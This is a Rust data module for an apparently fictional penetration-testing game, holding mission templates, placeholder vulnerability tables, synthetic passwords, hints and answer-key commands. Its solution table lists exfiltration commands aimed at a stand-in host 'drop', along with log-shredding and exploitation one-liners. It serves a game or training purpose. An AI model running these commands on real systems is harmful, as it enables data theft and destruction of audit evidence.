//! Template catalog and reference tables.
//!
//! Pure data: mission templates per category, plus the per-target-type port,
//! vulnerability, and credential tables the synthesizer draws from. Built once
//! at process start and never mutated afterwards.

use std::collections::HashMap;

use spectre_common::{MissionCategory, PuzzleKind, Severity, SkillCategory, StepType, TargetKind};

/// Static template for one mission category
pub struct MissionTemplate {
    pub category: MissionCategory,
    pub titles: &'static [&'static str],
    pub backgrounds: &'static [&'static str],
    pub objective: &'static str,
    pub briefing: &'static str,
    pub debriefing: &'static str,
    /// Ordered step archetype palette; step count is min(difficulty + 2, len)
    pub step_palette: &'static [StepType],
    /// Ordered target archetypes; target count is min(difficulty, len)
    pub target_archetypes: &'static [(&'static str, TargetKind)],
    /// The fixed two-skill prerequisite pairing for this category
    pub skill_pairing: (SkillCategory, SkillCategory),
}

/// Static template for one bonus puzzle kind
pub struct PuzzleTemplate {
    pub description: &'static str,
    pub trigger: &'static str,
    pub expected_output: &'static str,
}

/// Solution reference data for one step type
pub struct SolutionSpec {
    /// Accepted commands; any one as a substring of the submission passes
    pub commands: &'static [&'static str],
    /// Expected output token, used when no command list applies
    pub expected_output: &'static str,
}

/// Immutable catalog of mission templates, shared behind an Arc
pub struct Catalog {
    templates: HashMap<MissionCategory, MissionTemplate>,
}

impl Catalog {
    /// The built-in catalog covering every mission category
    pub fn builtin() -> Self {
        let mut templates = HashMap::new();
        for template in builtin_templates() {
            templates.insert(template.category, template);
        }
        Self { templates }
    }

    pub fn template(&self, category: MissionCategory) -> Option<&MissionTemplate> {
        self.templates.get(&category)
    }
}

fn builtin_templates() -> Vec<MissionTemplate> {
    vec![
        MissionTemplate {
            category: MissionCategory::WebSecurity,
            titles: &[
                "Operation Glass House",
                "Broken Gateway",
                "The Forgotten Endpoint",
            ],
            backgrounds: &[
                "A fintech startup's customer portal is leaking session tokens. \
                 Their security team quietly hired outside help before the auditors arrive.",
                "An e-commerce platform shipped a rushed checkout rewrite last quarter. \
                 Fraud numbers have tripled and nobody can explain why.",
                "A municipal services site runs a CMS nobody has patched in years. \
                 A hostile crew is already probing it; get there first.",
            ],
            objective: "Compromise the web stack and document every hole before the real attackers do.",
            briefing: "You have a scoped engagement letter and a deadline. Start from the outside, \
                       work inward, and keep your access quiet.",
            debriefing: "Findings delivered. The client is patching tonight; your report is the \
                         only reason they know what to patch.",
            step_palette: &[
                StepType::Reconnaissance,
                StepType::PortScan,
                StepType::VulnerabilityScan,
                StepType::Exploitation,
                StepType::PrivilegeEscalation,
                StepType::DataExfiltration,
                StepType::CoverTracks,
            ],
            target_archetypes: &[
                ("prod-web", TargetKind::WebServer),
                ("api-gateway", TargetKind::WebServer),
                ("db-primary", TargetKind::DatabaseServer),
                ("admin-ws", TargetKind::Workstation),
                ("static-assets", TargetKind::FileServer),
            ],
            skill_pairing: (SkillCategory::WebApplications, SkillCategory::Exploitation),
        },
        MissionTemplate {
            category: MissionCategory::NetworkPenetration,
            titles: &[
                "Operation Backbone",
                "Silent Subnet",
                "Perimeter Drift",
            ],
            backgrounds: &[
                "A logistics company flattened its network to save money. One compromised \
                 badge-reader VLAN now touches everything.",
                "A regional ISP suspects a persistent guest on its management network. \
                 They want proof, and a map of how far the guest can reach.",
                "A factory's OT and IT networks were 'temporarily' bridged two years ago. \
                 Demonstrate what that bridge is worth to an attacker.",
            ],
            objective: "Gain a foothold, move laterally, and reach the crown-jewel segment.",
            briefing: "Entry is the easy part. The engagement is graded on how far you pivot \
                       and how little noise you make doing it.",
            debriefing: "Network map delivered, choke points identified. Segmentation budget \
                         approved within the week.",
            step_palette: &[
                StepType::Reconnaissance,
                StepType::PortScan,
                StepType::Exploitation,
                StepType::PrivilegeEscalation,
                StepType::LateralMovement,
                StepType::DataExfiltration,
                StepType::CoverTracks,
            ],
            target_archetypes: &[
                ("edge-router", TargetKind::Router),
                ("jump-host", TargetKind::Workstation),
                ("file-share", TargetKind::FileServer),
                ("dc-01", TargetKind::DomainController),
                ("backup-srv", TargetKind::FileServer),
            ],
            skill_pairing: (SkillCategory::Networking, SkillCategory::Reconnaissance),
        },
        MissionTemplate {
            category: MissionCategory::SocialEngineering,
            titles: &[
                "The Vendor Call",
                "Badge of Trust",
                "Inbox Invader",
            ],
            backgrounds: &[
                "A law firm wants its partners tested after one of them wired funds to a \
                 'client' who never existed.",
                "A hospital's help desk resets passwords for anyone who sounds stressed \
                 enough. Leadership refuses to believe it until shown.",
                "A defense subcontractor's staff keep plugging in USB drives from the \
                 parking lot. You are the parking lot this time.",
            ],
            objective: "Obtain privileged access using people, not exploits.",
            briefing: "Everything is in scope except actual harm: pretexts, phishing, and \
                       tailgating are your toolkit. Record everything.",
            debriefing: "Three pretexts, three footholds. Awareness training is being \
                         rewritten around your call transcripts.",
            step_palette: &[
                StepType::Reconnaissance,
                StepType::Phishing,
                StepType::Exploitation,
                StepType::DataExfiltration,
                StepType::CoverTracks,
            ],
            target_archetypes: &[
                ("mail-gw", TargetKind::MailServer),
                ("hr-ws", TargetKind::Workstation),
                ("finance-ws", TargetKind::Workstation),
                ("intranet", TargetKind::WebServer),
            ],
            skill_pairing: (SkillCategory::SocialEngineering, SkillCategory::Reconnaissance),
        },
        MissionTemplate {
            category: MissionCategory::MalwareAnalysis,
            titles: &[
                "Specimen 47",
                "Dropper Autopsy",
                "Packed and Hostile",
            ],
            backgrounds: &[
                "An incident responder pulled a suspicious binary off a comptroller's \
                 laptop. It phones home every six hours; nobody knows what it says.",
                "A ransomware crew's loader slipped past the mail filter. The SOC wants \
                 indicators before the next wave lands.",
                "A USB drive from a trade show autoruns something that disables the EDR \
                 agent. Figure out how before it ships company-wide.",
            ],
            objective: "Unpack the sample, map its behavior, and extract actionable indicators.",
            briefing: "Detonate only in the sandbox. The C2 infrastructure is live; do not \
                       tip off the operators.",
            debriefing: "IOCs published, kill switch registered. The next wave bounced off \
                         the new signatures.",
            step_palette: &[
                StepType::Reconnaissance,
                StepType::VulnerabilityScan,
                StepType::Cryptanalysis,
                StepType::Exploitation,
                StepType::DataExfiltration,
                StepType::CoverTracks,
            ],
            target_archetypes: &[
                ("sandbox-01", TargetKind::Workstation),
                ("c2-mirror", TargetKind::WebServer),
                ("sample-share", TargetKind::FileServer),
                ("detonation-vm", TargetKind::Workstation),
            ],
            skill_pairing: (SkillCategory::Forensics, SkillCategory::Exploitation),
        },
        MissionTemplate {
            category: MissionCategory::Forensics,
            titles: &[
                "Cold Trail",
                "The Deleted Quarter",
                "Afterimage",
            ],
            backgrounds: &[
                "A departing engineer's workstation was wiped the night before the exit \
                 interview. Legal wants to know what left with them.",
                "Finance found transactions approved by an account belonging to someone \
                 on parental leave. The logs only go back thirty days.",
                "A breached web host claims the intruder 'touched nothing'. The insurance \
                 company would like a second opinion.",
            ],
            objective: "Reconstruct the timeline and recover evidence that survives scrutiny.",
            briefing: "Chain of custody is everything. Image first, analyze second, and \
                       write down the hash of everything you touch.",
            debriefing: "Timeline reconstructed to the minute. The report is now exhibit A.",
            step_palette: &[
                StepType::Reconnaissance,
                StepType::PortScan,
                StepType::Cryptanalysis,
                StepType::LateralMovement,
                StepType::DataExfiltration,
                StepType::CoverTracks,
            ],
            target_archetypes: &[
                ("evidence-ws", TargetKind::Workstation),
                ("log-server", TargetKind::FileServer),
                ("mail-archive", TargetKind::MailServer),
                ("domain-ctl", TargetKind::DomainController),
            ],
            skill_pairing: (SkillCategory::Forensics, SkillCategory::Networking),
        },
    ]
}

/// Common (port, service) table per target type
pub fn common_ports(kind: TargetKind) -> &'static [(u16, &'static str)] {
    match kind {
        TargetKind::WebServer => &[(22, "ssh"), (80, "http"), (443, "https"), (8080, "http")],
        TargetKind::DatabaseServer => &[(22, "ssh"), (3306, "mysql"), (5432, "postgresql"), (6379, "redis")],
        TargetKind::MailServer => &[(25, "smtp"), (110, "pop3"), (143, "imap"), (993, "imaps")],
        TargetKind::Workstation => &[(22, "ssh"), (3389, "rdp"), (5900, "vnc"), (445, "smb")],
        TargetKind::FileServer => &[(21, "ftp"), (22, "ssh"), (445, "smb"), (2049, "nfs")],
        TargetKind::DomainController => &[(53, "dns"), (88, "kerberos"), (389, "ldap"), (445, "smb")],
        TargetKind::Router => &[(22, "ssh"), (23, "telnet"), (161, "snmp"), (443, "https")],
    }
}

/// Known banners per service (empty for services without one)
pub fn service_banners(service: &str) -> &'static [&'static str] {
    match service {
        "ssh" => &[
            "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.2",
            "SSH-2.0-OpenSSH_7.4",
        ],
        "http" | "https" => &[
            "HTTP/1.1 200 OK Server: Apache/2.4.41",
            "HTTP/1.1 200 OK Server: nginx/1.18.0",
        ],
        "ftp" => &[
            "220 Welcome to Ubuntu FTP service.",
            "220 ProFTPD 1.3.6 Server ready.",
        ],
        "smtp" => &["220 mail ESMTP Postfix (Ubuntu)"],
        _ => &[],
    }
}

/// Vulnerability reference table per target type: (id, description, severity)
pub fn vulnerability_table(kind: TargetKind) -> &'static [(&'static str, &'static str, Severity)] {
    match kind {
        TargetKind::WebServer => &[
            ("CVE-2023-2001", "HTTP server information disclosure", Severity::High),
            ("CVE-2023-2002", "Missing security headers", Severity::Medium),
            ("CVE-2023-2101", "SQL injection in search parameter", Severity::Critical),
            ("CVE-2023-2102", "Stored XSS in comment field", Severity::High),
            ("CVE-2023-2103", "Directory traversal in download handler", Severity::High),
            ("CVE-2023-2104", "Session fixation on login", Severity::Medium),
        ],
        TargetKind::DatabaseServer => &[
            ("CVE-2023-3001", "MySQL authentication bypass", Severity::Critical),
            ("CVE-2023-3002", "MySQL privilege escalation", Severity::High),
            ("CVE-2023-3003", "Redis unauthenticated access", Severity::Critical),
            ("CVE-2023-3004", "PostgreSQL weak default credentials", Severity::High),
            ("CVE-2023-3005", "Unencrypted replication stream", Severity::Medium),
        ],
        TargetKind::MailServer => &[
            ("CVE-2023-4001", "SMTP open relay", Severity::High),
            ("CVE-2023-4002", "IMAP plaintext authentication", Severity::Medium),
            ("CVE-2023-4003", "SPF record absent", Severity::Low),
            ("CVE-2023-4004", "Webmail CSRF token reuse", Severity::Medium),
            ("CVE-2023-4005", "Attachment filter bypass", Severity::High),
        ],
        TargetKind::Workstation => &[
            ("CVE-2023-5001", "Unpatched SMB remote code execution", Severity::Critical),
            ("CVE-2023-5002", "RDP weak encryption negotiated", Severity::Medium),
            ("CVE-2023-5003", "Local privilege escalation via service path", Severity::High),
            ("CVE-2023-5004", "Cached domain credentials extractable", Severity::High),
            ("CVE-2023-5005", "Autorun enabled for removable media", Severity::Medium),
        ],
        TargetKind::FileServer => &[
            ("CVE-2023-6001", "Anonymous FTP write access", Severity::High),
            ("CVE-2023-6002", "SMB signing not enforced", Severity::Medium),
            ("CVE-2023-6003", "NFS export to world", Severity::High),
            ("CVE-2023-6004", "Backup share readable by all users", Severity::High),
            ("CVE-2023-6005", "Stale service account with full control", Severity::Medium),
        ],
        TargetKind::DomainController => &[
            ("CVE-2023-7001", "Kerberoastable service accounts", Severity::High),
            ("CVE-2023-7002", "LDAP anonymous bind enabled", Severity::Medium),
            ("CVE-2023-7003", "Zone transfer allowed to any host", Severity::Medium),
            ("CVE-2023-7004", "Unconstrained delegation on legacy host", Severity::Critical),
            ("CVE-2023-7005", "Password policy allows 6-character passwords", Severity::High),
        ],
        TargetKind::Router => &[
            ("CVE-2023-8001", "Default SNMP community strings", Severity::High),
            ("CVE-2023-8002", "Telnet management interface exposed", Severity::Critical),
            ("CVE-2023-8003", "Firmware with known RCE", Severity::Critical),
            ("CVE-2023-8004", "Weak admin password policy", Severity::Medium),
            ("CVE-2023-8005", "Config backup retrievable without auth", Severity::High),
        ],
    }
}

/// Fixed pools for synthetic credentials
pub const USERNAME_POOL: &[&str] = &[
    "admin", "root", "svc_backup", "jsmith", "operator", "deploy", "dbadmin", "helpdesk",
];

pub const PASSWORD_POOL: &[&str] = &[
    "admin123", "Password1", "changeme", "Summer2023!", "qwerty789", "letmein", "P@ssw0rd",
];

/// Difficulty-bucketed description ladder per step type (low / mid / high)
pub fn step_descriptions(step: StepType) -> [&'static str; 3] {
    match step {
        StepType::Reconnaissance => [
            "Gather public information about the target organization",
            "Profile the target's staff, domains, and exposed infrastructure",
            "Build a full OSINT dossier without touching target systems",
        ],
        StepType::PortScan => [
            "Scan the target for open ports",
            "Fingerprint services and versions behind the open ports",
            "Map the full service surface while evading rate-based detection",
        ],
        StepType::VulnerabilityScan => [
            "Run a vulnerability scan against the discovered services",
            "Correlate scanner findings with the live service versions",
            "Manually verify each candidate vulnerability without tripping the WAF",
        ],
        StepType::Exploitation => [
            "Exploit the most promising vulnerability for initial access",
            "Chain two findings into a reliable foothold",
            "Develop a working exploit where no public one exists",
        ],
        StepType::PrivilegeEscalation => [
            "Escalate from your foothold to an administrative account",
            "Abuse a misconfigured service to gain root",
            "Escalate through a hardened host without leaving event-log traces",
        ],
        StepType::LateralMovement => [
            "Use harvested credentials to reach an adjacent system",
            "Pivot across the network toward the target segment",
            "Traverse segmented networks using only living-off-the-land tooling",
        ],
        StepType::DataExfiltration => [
            "Locate and copy the objective data",
            "Stage and exfiltrate the objective data past egress filtering",
            "Exfiltrate covertly over an approved protocol without DLP alerts",
        ],
        StepType::CoverTracks => [
            "Remove obvious traces of your access",
            "Clean logs and artifacts across every touched host",
            "Leave the environment indistinguishable from its pre-engagement state",
        ],
        StepType::Phishing => [
            "Send a credential-harvesting email to the target group",
            "Run a tailored spear-phish against a privileged employee",
            "Execute a multi-stage pretext ending in remote access",
        ],
        StepType::Cryptanalysis => [
            "Decode the intercepted message",
            "Break the captured ciphertext and recover the key material",
            "Recover plaintext from layered custom obfuscation",
        ],
    }
}

/// Ordered hint ladder per step type; synthesis truncates by difficulty
pub fn step_hints(step: StepType) -> [&'static str; 4] {
    match step {
        StepType::Reconnaissance => [
            "Start with the company's own website and job postings",
            "Certificate transparency logs list subdomains for free",
            "whois and DNS records reveal hosting relationships",
            "Check code-hosting sites for leaked configuration",
        ],
        StepType::PortScan => [
            "A SYN scan is quieter than a full connect scan",
            "Add -O to fingerprint the operating system",
            "Service versions matter more than port numbers",
            "Filtered ports still tell you a firewall exists",
        ],
        StepType::VulnerabilityScan => [
            "Match service versions against the vulnerability database",
            "Prioritize findings marked exploitable",
            "Web paths respond differently when a WAF is watching",
            "One verified finding beats ten unverified ones",
        ],
        StepType::Exploitation => [
            "Check the exploit framework for a matching module",
            "The critical-severity finding is the intended way in",
            "Mind the defenses: an active IDS will see default payloads",
            "A failed exploit often needs only a version-specific offset",
        ],
        StepType::PrivilegeEscalation => [
            "Enumerate SUID binaries and service configurations",
            "Look for credentials cached by other users",
            "Scheduled tasks running as root are a classic path",
            "Kernel version determines which local exploits apply",
        ],
        StepType::LateralMovement => [
            "Reused credentials are the most common bridge",
            "Check which hosts the current user recently connected to",
            "Admin shares accept the hashes you already hold",
            "The jump host exists because it can reach everything",
        ],
        StepType::DataExfiltration => [
            "Find where the objective data actually lives first",
            "Compress and encrypt before moving anything",
            "Blend into protocols the network already allows out",
            "Large transfers at 3am are what DLP is tuned for",
        ],
        StepType::CoverTracks => [
            "Shell history files record more than you typed",
            "Timestamps on modified files give you away",
            "Clearing a log entirely is itself an indicator",
            "Remove your persistence before you leave",
        ],
        StepType::Phishing => [
            "The pretext must be something the target expects",
            "Clone the real login page and proxy the credentials",
            "Urgency and authority overcome hesitation",
            "Send late afternoon when attention is lowest",
        ],
        StepType::Cryptanalysis => [
            "Identify the encoding before reaching for ciphers",
            "Letter frequency reveals substitution schemes",
            "A repeating-key cipher yields to pattern distance analysis",
            "Try the classics first: rot13, base64, single-byte XOR",
        ],
    }
}

/// Accepted commands and expected-output token per step type
pub fn step_solution(step: StepType) -> SolutionSpec {
    match step {
        StepType::Reconnaissance => SolutionSpec {
            commands: &["whois target_domain", "dig target_domain any", "theharvester -d target_domain"],
            expected_output: "dossier complete",
        },
        StepType::PortScan => SolutionSpec {
            commands: &["nmap -sS -O target_ip", "nmap -sV target_ip"],
            expected_output: "PORT STATE SERVICE",
        },
        StepType::VulnerabilityScan => SolutionSpec {
            commands: &["nikto -h target_ip", "nmap --script vuln target_ip"],
            expected_output: "vulnerabilities identified",
        },
        StepType::Exploitation => SolutionSpec {
            commands: &["msfconsole -x 'use exploit", "sqlmap -u http://target_ip"],
            expected_output: "session opened",
        },
        StepType::PrivilegeEscalation => SolutionSpec {
            commands: &["sudo -l", "linpeas.sh", "getsystem"],
            expected_output: "uid=0(root)",
        },
        StepType::LateralMovement => SolutionSpec {
            commands: &["psexec.py domain/user@target_ip", "ssh operator@target_ip"],
            expected_output: "foothold established",
        },
        StepType::DataExfiltration => SolutionSpec {
            commands: &["scp -r /data exfil@drop:", "curl -T archive.tgz https://drop"],
            expected_output: "transfer complete",
        },
        StepType::CoverTracks => SolutionSpec {
            commands: &["shred -u /var/log/auth.log", "history -c"],
            expected_output: "traces removed",
        },
        // Answer-style steps validate against the expected output token
        StepType::Phishing => SolutionSpec {
            commands: &[],
            expected_output: "credentials harvested",
        },
        StepType::Cryptanalysis => SolutionSpec {
            commands: &[],
            expected_output: "plaintext recovered",
        },
    }
}

/// Suggested tooling per step type
pub fn step_tools(step: StepType) -> &'static [&'static str] {
    match step {
        StepType::Reconnaissance => &["whois", "dig", "theharvester"],
        StepType::PortScan => &["nmap", "masscan"],
        StepType::VulnerabilityScan => &["nikto", "openvas"],
        StepType::Exploitation => &["metasploit", "sqlmap"],
        StepType::PrivilegeEscalation => &["linpeas", "winpeas"],
        StepType::LateralMovement => &["impacket", "crackmapexec"],
        StepType::DataExfiltration => &["rclone", "curl"],
        StepType::CoverTracks => &["shred", "timestomp"],
        StepType::Phishing => &["gophish", "evilginx"],
        StepType::Cryptanalysis => &["cyberchef", "hashcat"],
    }
}

/// Level-gated tool unlock table; entries at or below the mission difficulty
/// are granted cumulatively
pub const TOOL_UNLOCKS: [(u8, &str); 5] = [
    (1, "basic_scanner"),
    (3, "exploit_framework"),
    (5, "credential_harvester"),
    (7, "custom_implant_kit"),
    (9, "zero_day_workbench"),
];

/// Template data per bonus puzzle kind
pub fn puzzle_template(kind: PuzzleKind) -> PuzzleTemplate {
    match kind {
        PuzzleKind::CipherDecode => PuzzleTemplate {
            description: "An intercepted note is encrypted with a rotating substitution cipher",
            trigger: "Found taped under the keyboard of the admin workstation",
            expected_output: "THE PACKAGE IS HIDDEN IN THE BASEMENT",
        },
        PuzzleKind::SignalTrace => PuzzleTemplate {
            description: "A beacon transmits on a schedule; triangulate its origin host",
            trigger: "Unexplained periodic traffic in the egress capture",
            expected_output: "backdoor active on port 4444",
        },
        PuzzleKind::MemoryDump => PuzzleTemplate {
            description: "A process memory dump contains a credential in plain sight",
            trigger: "Crash dump left behind in the temp directory",
            expected_output: "database password is qwerty789",
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_builtin_covers_every_category() {
        let catalog = Catalog::builtin();
        for cat in MissionCategory::ALL {
            let template = catalog.template(cat).expect("missing template");
            assert!(template.step_palette.len() >= 3);
            assert!(!template.target_archetypes.is_empty());
            assert!(!template.titles.is_empty());
            assert_eq!(template.titles.len(), template.backgrounds.len());
        }
    }

    #[test]
    fn test_reference_tables_are_populated() {
        let kinds = [
            TargetKind::WebServer,
            TargetKind::DatabaseServer,
            TargetKind::MailServer,
            TargetKind::Workstation,
            TargetKind::FileServer,
            TargetKind::DomainController,
            TargetKind::Router,
        ];
        for kind in kinds {
            assert!(!common_ports(kind).is_empty());
            assert!(vulnerability_table(kind).len() >= 5);
        }
    }

    #[test]
    fn test_every_step_type_has_solution_data() {
        let steps = [
            StepType::Reconnaissance,
            StepType::PortScan,
            StepType::VulnerabilityScan,
            StepType::Exploitation,
            StepType::PrivilegeEscalation,
            StepType::LateralMovement,
            StepType::DataExfiltration,
            StepType::CoverTracks,
            StepType::Phishing,
            StepType::Cryptanalysis,
        ];
        for step in steps {
            let spec = step_solution(step);
            assert!(!spec.commands.is_empty() || !spec.expected_output.is_empty());
            assert!(!step_tools(step).is_empty());
            assert!(step_hints(step).iter().all(|h| !h.is_empty()));
        }
    }
}
